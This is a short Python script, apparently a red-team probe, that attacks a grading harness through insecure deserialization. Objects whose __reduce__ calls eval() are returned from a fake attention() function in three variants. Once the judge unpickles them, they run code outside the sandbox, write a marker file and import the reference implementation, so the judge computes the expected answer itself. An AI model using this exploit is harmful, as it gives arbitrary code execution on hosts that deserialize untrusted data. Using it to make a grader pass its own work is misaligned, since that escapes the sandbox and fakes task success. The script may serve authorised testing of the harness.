# b09: the result travels from the sandbox to the judge. If the wire format unpickles (or otherwise
# reconstructs objects), a result whose __reduce__ calls eval() runs IN THE JUDGE, outside the
# sandbox, where engine.attention is importable: the judge would compute the reference for us.
# Variants per call: plain evil object, object-dtype ndarray holding it, ndarray subclass.
# SUCCESS: PASS (or any sign the payload ran in the judge: the marker file /dev/shm/rt2_b09_ran).
import sys, numpy as np
EXPR = ("(open('/dev/shm/rt2_b09_ran','w').write('ran'), lambda q,k,v,m: __import__('engine.attention',"
        "fromlist=['_']).naive_attention(q,k,v,m))[1]")
class Fn:
    def __reduce__(self): return (eval, (EXPR,))
class Evil:
    def __init__(self, *a): self.a = a
    def __reduce__(self): return (Fn(), self.a)
class Sub(np.ndarray):
    def __reduce__(self): return Evil(*self.args).__reduce__()
n = [0]
w = sys.modules.get('studyxf.grading.wire')
print('wire attrs', [a for a in dir(w) if not a.startswith('__')] if w else None)
def attention(q, k, v, mask=None):
    n[0] += 1
    variant = n[0] % 3
    if variant == 1: return Evil(q, k, v, mask)
    if variant == 2:
        a = np.empty(1, dtype=object); a[0] = Evil(q, k, v, mask); return a
    s = np.zeros(q.shape[:-1] + v.shape[-1:], q.dtype).view(Sub); s.args = (q, k, v, mask); return s
